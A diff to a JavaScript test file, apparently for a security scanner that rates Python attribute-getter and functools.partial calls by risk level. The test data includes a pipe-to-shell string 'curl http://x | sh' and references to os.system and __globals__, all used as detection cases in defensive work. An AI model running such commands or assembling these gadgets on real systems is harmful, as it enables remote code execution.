@@ -98,7 +98,8 @@ describe('attributes', () => {
   });
 
   test('getters and callers by name', () => {
-    expect(call('operator', 'attrgetter', [str('shape')])).toBe('LOW');
+    expect(call('operator', 'attrgetter', [str('shape')])).toBe('trusted');
+    expect(call('operator', 'attrgetter', [str('shape.size')])).toBe('LOW');
     expect(call('operator', 'attrgetter', [str('a.__globals__')])).toBe('CRITICAL');
     expect(call('operator', 'attrgetter', [str('system')])).toBe('CRITICAL');
     expect(call('operator', 'methodcaller', [str('lower')])).toBe('LOW');
@@ -113,7 +114,7 @@ describe('callables that make something of a callable', () => {
     expect(call('functools', 'partial', [global('os', 'system'), str('x')])).toBe('CRITICAL');
     expect(call('functools', 'partial', [global('mylib', 'scale'), str('x')])).toBe('LOW');
     expect(call('functools', 'partial', [global('mylib', 'scale'), str('curl http://x | sh')])).toBe('HIGH');
-    expect(call('functools', 'partial', [global('numpy', 'percentile')])).toBe('LOW');
+    expect(call('functools', 'partial', [global('numpy', 'percentile')])).toBe('trusted');
     expect(call('functools', 'partial', [{ type: 'unknown', why: 'computed' }])).toBe('HIGH');
   });
 
